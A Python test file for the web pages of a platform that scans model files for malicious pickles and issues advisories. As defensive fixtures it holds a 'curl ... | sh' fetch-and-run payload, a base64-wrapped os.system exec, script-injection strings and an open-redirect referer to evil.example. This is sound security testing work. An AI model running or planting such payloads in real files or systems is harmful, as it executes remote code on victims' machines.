"""What the pages of the workbench offer, to whom, and why not to others."""

from __future__ import annotations

import base64
import re

import pytest
from django.test import Client
from django.utils import timezone
from registry import (
    calling,
    decided_malicious,
    in_analysis,
    infected,
    only_case,
    person,
    scanned,
    unvouched,
    upload,
)

from builders import pickles
from weighbridge.platform.accounts.permissions import MATRIX, Action
from weighbridge.platform.accounts.roles import Role
from weighbridge.platform.advisories.models import Advisory
from weighbridge.platform.cases.models import Case, Vouch
from weighbridge.platform.monitors.models import Monitor
from weighbridge.platform.web.proof import marked

pytestmark = pytest.mark.django_db


def client_of(name: str = "ada", role: Role = Role.RESEARCHER) -> Client:
    client = Client()
    client.force_login(person(name, role))
    return client


def text_of(client: Client, path: str, status: int = 200) -> str:
    answer = client.get(path)
    assert answer.status_code == status, path
    return answer.content.decode()


def test_a_case_opens_with_the_sentence_and_marks_the_call() -> None:
    scanned(infected("curl http://192.0.2.1/x | sh"))
    page = text_of(client_of(), f"/cases/{only_case().pk}")
    heading = re.search(r"<h1>(.*?)</h1>", page)
    assert heading is not None
    assert heading[1].startswith("Loading this file with pickle.load() runs os.system(&#x27;curl")
    assert "<mark>os.system</mark>(" in page


def test_what_is_nested_and_encoded_is_unfolded() -> None:
    inner = base64.b64encode(b"import os\nos.system('id')").decode()
    scanned(calling("builtins", "exec", f"import base64;exec(base64.b64decode('{inner}'))"))
    page = text_of(client_of(), f"/cases/{only_case().pk}")
    assert "It carries this code" in page
    assert "Which decodes to" in page and "<mark>os.system</mark>(&#x27;id&#x27;)" in page


def test_bytes_and_opcodes_stand_side_by_side_with_one_line_marked() -> None:
    scanned(infected())
    page = text_of(client_of(), f"/cases/{only_case().pk}?tab=bytes")
    (here,) = re.findall(r'<tr class="here">(.*?)</tr>', page)
    offset = only_case().occurrences.get().offset
    assert f"{offset:08x}" in here and ">52<" in here and "REDUCE" in here


def test_the_bytes_of_a_pickle_in_a_pickle_stand_below_those_of_the_outer_one() -> None:
    scanned(pickles.call("pickle", "loads", infected("deep")) + pickles.STOP)
    page = text_of(client_of(), f"/cases/{only_case().pk}?tab=bytes")
    outer, inner = page.split("In the pickle inside")
    assert "REDUCE" in outer and "&#x27;deep&#x27;" in inner and "call-0" in inner


def test_a_mark_never_lets_markup_through() -> None:
    shown = marked("os.system('<script>') <b>x</b>", ["os.system"])
    assert shown == ("<mark>os.system</mark>(&#x27;&lt;script&gt;&#x27;) &lt;b&gt;x&lt;/b&gt;")
    assert "4,096 of 9,000 characters" in marked("x" * 9000, [])


def test_the_preview_shows_the_advisory_and_takes_no_number() -> None:
    scanned(infected(), target="acme/model")
    in_analysis(person("ada"), only_case())
    page = text_of(client_of(), f"/cases/{only_case().pk}")
    assert re.search(r"MSC-\d{4}-…", page) and "Malicious code in acme/model" in page
    part = client_of().post(
        f"/cases/{only_case().pk}/preview",
        {"decision": "weakness", "title": "A <b>title</b>", "reason": "why"},
        headers={"HX-Request": "true"},
    )
    told = part.content.decode()
    assert "A &lt;b&gt;title&lt;/b&gt;" in told and "<html" not in told
    assert Advisory.objects.count() == 0


def test_a_package_goes_from_a_case_opened_by_hand_to_its_msc() -> None:
    ada, bob = client_of("ada"), client_of("bob")
    given = {"title": "It steals tokens", "reason": "setup.py posts them", "verdict": "malicious",
             "package": "evil-models", "versions": "1.0 1.1"}  # fmt: skip
    place = ada.post("/cases/new", given)["Location"]
    assert "evil-models" in text_of(ada, place)
    for word in ("claim", "start"):
        ada.post(f"{place}/{word}")
    assert "Malicious code in evil-models (PyPI)" in text_of(ada, place)
    ada.post(f"{place}/malicious", {"reason": "seen"})
    bob.post(f"{place}/approve")
    assert (Advisory.objects.get().ecosystem, Advisory.objects.get().kind) == ("PyPI", "MSC")


def test_a_case_by_hand_needs_one_thing_to_be_about() -> None:
    ada = client_of()
    answer = ada.post("/cases/new", {"title": "x", "reason": "y"}, follow=True)
    assert "No case was opened" in answer.content.decode()
    wrong = {"title": "x", "reason": "y", "version": "abc"}
    assert "No case was opened" in ada.post("/cases/new", wrong).content.decode()
    assert Case.objects.count() == 0


@pytest.mark.parametrize(
    "target",
    ["hf://acme/model", "kaggle://acme/model/onnx/small", " http://127.0.0.1:9/acme/model "],
)
def test_a_scan_is_asked_for_by_whatever_is_pasted(target: str) -> None:
    answer = client_of("sub", Role.SUBMITTER).post("/scans", {"target": target})
    assert re.fullmatch(r"/scans/\d+", answer["Location"])


def test_a_target_that_is_none_is_answered_in_the_form_and_kept() -> None:
    answer = client_of().post("/scans", {"target": "ftp://x/y"})
    page = answer.content.decode()
    assert "Nothing is scanned" in page and 'value="ftp://x/y"' in page


def test_progress_is_a_part_of_the_page_and_ends_by_itself() -> None:
    scan = upload(person("ada"), "m.pkl", infected())
    ada = client_of()
    part = text_of(ada, f"/scans/{scan.pk}/progress")
    assert "Waiting for a worker" in part and "<html" not in part
    ada.post(f"/scans/{scan.pk}/cancel")
    assert ada.get(f"/scans/{scan.pk}/progress")["HX-Refresh"] == "true"


def test_filters_are_chips_that_can_be_removed() -> None:
    scanned(infected())
    scanned(unvouched(), "odd.pkl")
    page = text_of(client_of(), "/queue?verdict=malicious&effect=process_exec")
    assert "Remove the filter verdict: malicious" in page
    assert "textwrap" not in page and "starts a process" in page
    assert "No case is like that" in text_of(client_of(), "/queue?effect=network")


def test_the_front_page_is_the_overview_for_those_who_work_on_the_queue() -> None:
    scanned(infected())
    page = text_of(client_of(), "/")
    assert "1 case waits; the oldest was opened" in page
    assert 'class="area malicious"' in page and "How long cases have waited" in page
    assert "What is known to be wrong" in text_of(client_of("r", Role.READER), "/")


def test_a_hunt_counts_at_once_and_groups_what_it_finds() -> None:
    scanned(infected())
    scanned(infected("other"), "b.pkl")
    ada = client_of()
    page = text_of(ada, "/hunts?kind=import&text=os.system")
    assert "<strong>2 contents</strong> would be hit" in page
    assert "posix.*" not in page
    wild = text_of(ada, "/hunts?kind=import&text=os.*")
    assert "<strong>2 contents</strong>" in wild
    place = ada.post("/hunts", {"kind": "import", "text": "os.system"})["Location"]
    page = text_of(ada, place)
    assert page.count("Loading it starts a process") == 2


def test_every_role_sees_its_pages_and_is_told_who_may_see_others() -> None:
    pages = {
        "/models": Action.LOOK_UP,
        "/scans": Action.REQUEST_SCAN,
        "/queue": Action.READ_QUEUE,
        "/cases/new": Action.OPEN_CASE,
        "/ws/new": Action.ISSUE_WS,
        "/hunts": Action.HUNT,
        "/vouches": Action.READ_QUEUE,
        "/webhooks": Action.MANAGE_WEBHOOKS,
        "/administration": Action.MANAGE_WEBHOOKS,
        "/users": Action.MANAGE_USERS,
    }
    for role in Role:
        client = client_of(f"one-{role.value}", role)
        account = text_of(client, "/account")
        for path, action in pages.items():
            may = action in MATRIX[role]
            page = text_of(client, path, 200 if may else 403)
            if not may:
                assert f"You may not {action.value}" in page
                assert f"You may not {action.value}" in account


def test_the_proposer_sees_why_they_cannot_agree_and_a_lead_can_give_cases_away() -> None:
    scanned(infected())
    place = f"/cases/{only_case().pk}"
    assert "You may not give cases to others" in text_of(client_of(), place)
    lead = client_of("lena", Role.LEAD)
    assert "Give it to somebody" in text_of(lead, place)
    lead.post(f"{place}/assign", {"owner": person("ada").pk})
    assert only_case().owner == person("ada")
    assert "ada has claimed this case" in text_of(client_of("bob"), place)


def test_a_claim_that_somebody_else_won_is_told_kindly() -> None:
    scanned(infected())
    number, revision = only_case().pk, only_case().revision
    for name in ("ada", "bob"):
        answer = client_of(name).post(f"/cases/{number}/claim", {"revision": revision}, follow=True)
    assert "Nothing was changed" in answer.content.decode()


def test_colours_are_kept_in_a_cookie_and_lead_back_to_this_site_only() -> None:
    client = Client()
    answer = client.post(
        "/theme", {"theme": "dark"}, headers={"referer": "http://testserver/report?target=x"}
    )
    assert answer["Location"] == "/report?target=x"
    assert 'data-theme="dark"' in text_of(client, "/")
    away = client.post("/theme", {"theme": "x"}, headers={"referer": "https://evil.example//a"})
    assert away["Location"] == "/"
    here = client.post(
        "/theme", {"theme": "x"}, headers={"referer": "http://testserver//evil.example"}
    )
    assert here["Location"] == "/evil.example"
    assert "data-theme" not in text_of(client, "/")


def test_a_model_is_followed_and_its_page_shows_what_was_read() -> None:
    scan = scanned(infected(), target="acme/model")
    ada = client_of()
    place = f"/models/{scan.version.model_id}"
    assert "Follow: tell me" in text_of(ada, place)
    ada.post(f"{place}/follow")
    page = text_of(ada, place)
    assert "Stop following" in page and "% read" in page
    assert "Libraries and their CVEs" in page
    ada.post(f"{place}/unfollow")
    assert "Follow: tell me" in text_of(ada, place)


def test_hostile_strings_stay_inert_in_titles_atom_and_pages_of_decisions() -> None:
    hostile = "</title><script>alert(1)</script>\u202ex\x1b[0m"
    scan = scanned(calling("os", "system", hostile), target=hostile)
    decided_malicious(only_case())
    identifier = str(Advisory.objects.get().pk)
    assert identifier
    ada = client_of()
    paths = [f"/cases/{only_case().pk}?tab={tab}" for tab in "runs bytes where history".split()]
    paths += [f"/models/{scan.version.model_id}", "/advisories.atom", "/", "/queue?state=decided"]
    for path in paths:
        page = text_of(ada, path)
        assert "<script>alert" not in page and "\u202e" not in page and "\x1b" not in page, path


def test_the_dashboard_tells_how_monitors_are() -> None:
    assert "No hub is watched" in text_of(client_of(), "/")
    Monitor.objects.create(
        provider="huggingface",
        mode="backfill",
        next_at=timezone.now(),
        listed=1200,
        chosen=30,
        total=2_000_000,
        error="the hub answered <b>503</b>",
    )
    page = text_of(client_of(), "/")
    assert "huggingface, backfill: active. 30 of 1,200 models listed were chosen" in page
    assert "the hub has 2,000,000" in page
    assert "30 of 1,200" in text_of(client_of("root", Role.ADMINISTRATOR), "/administration")
    assert "&lt;b&gt;503" in page


def test_a_symbol_is_vouched_for_by_two_people_on_the_page() -> None:
    scanned(unvouched())
    ada, bob = client_of("ada"), client_of("bob")
    given = {"symbol": "textwrap.dedent", "scope": "any", "reason": "It only changes text."}
    ada.post("/vouches", given)
    number = Vouch.objects.get().pk
    assert "a second person decides" in text_of(ada, "/vouches")
    assert f"/vouches/{number}/approve" in text_of(bob, "/vouches")
    ada.post(f"/vouches/{number}/approve")
    assert Vouch.objects.get().state == "proposed"
    bob.post(f"/vouches/{number}/approve")
    assert only_case().decision == "false-positive"
    bob.post(f"/vouches/{number}/revoke", {"reason": "It does more."})
    assert Vouch.objects.get().state == "revoked"
    refused = ada.post("/vouches", {**given, "symbol": "os.system"})
    assert "nobody can vouch for it" in refused.content.decode()


def test_a_lead_vouches_alone_in_an_emergency() -> None:
    lea = client_of("lea", Role.LEAD)
    lea.post("/vouches", {"symbol": "a.B", "scope": "rebuild", "reason": "weights"})
    number = Vouch.objects.get().pk
    assert "Decide alone" in text_of(lea, "/vouches")
    lea.post(f"/vouches/{number}/emergency", {"reason": "Nobody else is here."})
    assert "alone in an emergency" in text_of(lea, "/vouches")
    assert "a.B" in text_of(client_of("bob"), "/review")
